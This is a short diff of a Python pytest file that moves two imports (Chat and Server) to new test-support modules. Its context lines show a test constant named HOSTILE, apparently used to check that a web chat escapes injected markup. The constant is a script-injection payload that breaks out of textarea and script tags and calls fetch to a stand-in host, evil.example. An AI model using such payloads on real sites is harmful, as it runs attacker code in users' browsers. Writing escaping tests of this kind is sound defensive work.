@@ -4,8 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from tests.serve.web.conftest import Chat
-from tests.serve.web.stub import Server, says
+from tests.support.browser import Chat
+from tests.support.web_server import Server, says
 
 HOSTILE = """\
 </textarea></script><script>window.ran = 1; fetch("https://evil.example/1")</script>
